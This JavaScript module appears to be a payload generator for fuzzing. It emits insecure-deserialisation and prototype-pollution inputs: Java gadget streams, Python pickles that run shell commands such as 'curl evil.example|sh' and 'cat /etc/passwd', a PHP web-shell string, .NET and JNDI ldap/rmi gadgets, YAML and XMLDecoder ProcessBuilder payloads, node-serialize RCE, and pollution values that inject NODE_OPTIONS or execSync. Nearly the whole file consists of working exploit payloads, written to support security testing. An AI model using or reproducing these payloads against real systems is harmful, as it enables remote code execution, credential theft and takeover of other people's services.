/** Serialised objects and polluted prototypes. */
import { lines } from './grammar.mjs'

/** A varied Java object stream: magic, class descriptor, random rest. */
const javaStream = (r) => {
  const names = [
    'java.util.HashMap',
    'java.util.PriorityQueue',
    'org.apache.commons.collections.map.LazyMap',
    'sun.reflect.annotation.AnnotationInvocationHandler',
    'java.net.URL',
    'javax.management.BadAttributeValueExpException',
    'org.hibernate.engine.spi.TypedValue',
    'com.sun.rowset.JdbcRowSetImpl',
    'java.lang.Runtime',
    'org.springframework.core.SerializableTypeWrapper',
    'java.util.LinkedHashSet',
    'java.util.Hashtable',
  ]
  const name = names[r.below(names.length)]
  const rest = Buffer.from(Array.from({ length: 12 + r.below(90) }, () => r.below(256)))
  return Buffer.concat([Buffer.from([0xac, 0xed, 0, 5, 0x73, 0x72, 0, name.length]), Buffer.from(name, 'latin1'), rest])
}
const pickle = (r) => {
  const command = ['id', 'whoami', 'curl evil.example|sh', 'touch /tmp/x', 'cat /etc/passwd'][r.below(5)]
  const name = [
    ['posix', 'system'],
    ['os', 'system'],
    ['subprocess', 'Popen'],
    ['builtins', 'eval'],
    ['subprocess', 'check_output'],
    ['nt', 'system'],
  ][r.below(6)]
  if (r.below(2) === 0) return Buffer.from(`c${name[0]}\n${name[1]}\n(S'${command}'\ntR.`)
  const version = 2 + r.below(4)
  return Buffer.concat([
    Buffer.from([0x80, version]),
    Buffer.from(`c${name[0]}\n${name[1]}\nq\x00X`),
    Buffer.from([command.length, 0, 0, 0]),
    Buffer.from(`${command}q\x01\x85q\x02Rq\x03.`),
  ])
}
const phpObject = (r) => {
  const names = [
    'Example',
    'PDO',
    'SoapClient',
    'GuzzleHttp\\Psr7\\FnStream',
    'Monolog\\Handler\\SyslogUdpHandler',
    'Illuminate\\Broadcasting\\PendingBroadcast',
    'Swift_Mailer',
    'User',
    'Logger',
    'Requests_Utility_FilteredIterator',
    'stdClass',
    'Symfony\\Component\\Cache\\Adapter\\ProxyAdapter',
    'Slim\\Http\\Response',
    'FileHandler',
    'WP_Theme',
    'Typo3\\Pharstream',
  ]
  const fields = [
    'cmd',
    'file',
    'data',
    'hook',
    '_fn_close',
    'events',
    'isAdmin',
    'path',
    'content',
    'callback',
    'username',
  ]
  const values = [
    's:2:"id";',
    's:6:"system";',
    's:10:"phpinfo();";',
    'b:1;',
    's:11:"/etc/passwd";',
    'i:1;',
    's:25:"<?php system($_GET[0]); ?>";',
    'N;',
    's:5:"admin";',
    'O:8:"stdClass":0:{}',
    'a:2:{i:0;s:6:"system";i:1;s:2:"id";}',
  ]
  const name = names[r.below(names.length)]
  const n = 1 + r.below(3)
  const body = Array.from({ length: n }, () => {
    const f = fields[r.below(fields.length)]
    return `s:${f.length}:"${f}";${values[r.below(values.length)]}`
  }).join('')
  return `O:${name.length}:"${name}":${n}:{${body}}`
}
const encoded = (make) => (r) => Buffer.from(make(r)).toString('base64')

export const OBJECT = {
  deser: lines`
    §java64§
    §java64§
    §java64§
    §php_o§
    §php_o§
    §php_o64§
    a:§n§:{i:0;§php_o§}
    §pickle64§
    §pickle64§
    §pickle_t§
    AAEAAAD/////AQAAAAAAAAAMAgAAA§b64§
    {"$type":"§nettype§","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"}}
    {"$type":"§nettype§"}
    {"@type":"§javatype§","dataSourceName":"ldap://§host§/x","autoCommit":true}
    ["§javatype§",{"dataSourceName":"rmi://§host§/x"}]
    {"@class":"§javatype§","val":"ldap://§host§"}
    ["§javatype§","http://§host§/"]
    {"x":["§javatype§",{"jndiName":"ldap://§host§/"}]}
    !!python/object/apply:os.system ["§shell2§"]
    !!python/object/new:subprocess.check_output [["§shell2§"]]
    !!python/object/apply:subprocess.Popen\n- §shell2§
    !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://§host§/"]]]]
    !!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://§host§/x", autoCommit: true}
    --- !ruby/object:Gem::Requirement\nrequirements:\n  !ruby/object:Gem::Package::TarReader
    --- !ruby/object:Gem::Installer\ni: §rnd§
    - !ruby/object:ERB\n  src: system('§shell2§')
    <java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="1"><void index="0"><string>§shell2§</string></void></array><void method="start"/></object></java>
    <java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>§shell2§</string></void></object></java>
    <sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>§shell2§</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>
    <map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags></jdk.nashorn.internal.objects.NativeString></entry></map>
    {"rce":"_$$ND_FUNC$$_function(){require('child_process').exec('§shell2§')}()"}
    _$$ND_FUNC$$_function (){return require('fs').readdirSync('/')}()
    BAhvOiFHZW06OlJlcXVpcmVtZW50§b64§
    BAh7B0kiD3Nlc3Npb25faWQGOgZFVEki§b64§
    org.apache.commons.collections.functors.InvokerTransformer
    org.apache.commons.collections.functors.ChainedTransformer
    java.lang.Runtime.getRuntime
    com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl
    H4sIAAAAAAAA§b64§
    aced0005737200§hex§
    /wEy§b64§
    {"py/object":"__main__.Shell","py/reduce":[{"py/type":"os.system"},{"py/tuple":["§shell2§"]}]}
    c__builtin__\neval\n(S'__import__("os").system("§shell2§")'\ntR.
    cos\nsystem\n(S'§shell2§'\ntR.
  `,
  java64: encoded(javaStream),
  php_o: phpObject,
  php_o64: encoded(phpObject),
  pickle64: encoded(pickle),
  pickle_t: (r) => pickle(r).toString('latin1'),
  nettype: [
    'System.Windows.Data.ObjectDataProvider, PresentationFramework',
    'System.Security.Principal.WindowsIdentity, mscorlib',
    'System.Configuration.Install.AssemblyInstaller, System.Configuration.Install',
    'System.Activities.Presentation.WorkflowDesigner, System.Activities.Presentation',
    'System.IO.FileInfo, System.IO.FileSystem',
    'System.Workflow.ComponentModel.Serialization.ActivitySurrogateSelector',
  ],
  javatype: [
    'com.sun.rowset.JdbcRowSetImpl',
    'org.apache.xbean.propertyeditor.JndiConverter',
    'com.mchange.v2.c3p0.JndiRefForwardingDataSource',
    'ch.qos.logback.core.db.DriverManagerConnectionSource',
    'org.springframework.context.support.ClassPathXmlApplicationContext',
    'com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl',
    'java.lang.AutoCloseable',
    'java.net.InetAddress',
    'org.apache.ibatis.datasource.jndi.JndiDataSourceFactory',
    'javax.swing.JEditorPane',
    'java.lang.Class',
    'com.zaxxer.hikari.HikariConfig',
  ],

  proto: lines`
    __proto__[§pk§]=§pv§
    __proto__.§pk§=§pv§
    __proto__[§pk§][§rnd§]=§pv§
    constructor[prototype][§pk§]=§pv§
    constructor.prototype.§pk§=§pv§
    {"__proto__":{"§pk§":"§pv§"}}
    {"__proto__":{"§pk§":§n§}}
    {"__proto__":{"§pk§":true,"§rnd§":"§pv§"}}
    {"constructor":{"prototype":{"§pk§":"§pv§"}}}
    {"§word§":{"__proto__":{"§pk§":"§pv§"}}}
    {"§word§":"§rnd§","__proto__":{"§pk§":true}}
    {"__proto__":["§rnd§"],"length":§n§}
    §word§[__proto__][§pk§]=§pv§
    §word§.__proto__.§pk§=§pv§
    §word§[constructor][prototype][§pk§]=§pv§
    __proto__
    __proto__[§pk§]
    ["__proto__"]["§pk§"]
    #__proto__[§pk§]=§pv§
    ?__proto__[§pk§]=§pv§
    {"path":"__proto__.§pk§","value":"§pv§"}
    {"op":"add","path":"/__proto__/§pk§","value":"§pv§"}
    [{"op":"replace","path":"/constructor/prototype/§pk§","value":§n§}]
    __pro__proto__to__[§pk§]=§pv§
    constructor.prototype
    prototype[§pk§]=§pv§
    \\u005f\\u005fproto\\u005f\\u005f[§pk§]=§pv§
    __proto__%5B§pk§%5D=§pv§
    {"\\u005f_proto__":{"§pk§":true}}
  `,
  pk: [
    'isAdmin',
    'admin',
    'polluted',
    'role',
    'shell',
    'env',
    'NODE_OPTIONS',
    'argv0',
    'outputFunctionName',
    'client',
    'escapeFunction',
    'block',
    'status',
    'json spaces',
    'src',
    'innerHTML',
    'onerror',
    'test',
    'foo',
    'toString',
    'sourceURL',
    'type',
    'content-type',
    'exposedHeaders',
    'compileDebug',
    '§rnd§',
    'transport_url',
    'body',
    'head',
    'x',
    'isAuthenticated',
    'length',
  ],
  pv: [
    'true',
    '1',
    'admin',
    'polluted',
    '/proc/self/exe',
    '--require /proc/self/environ',
    'node',
    'x;process.mainModule.require("child_process").execSync("id");x',
    'data:,alert(1)',
    'alert(1)',
    '§rnd§',
    '510',
    'yes',
    '<img src=x onerror=alert(1)>',
    '--inspect=§host§',
    'console.log(1)',
  ],
}
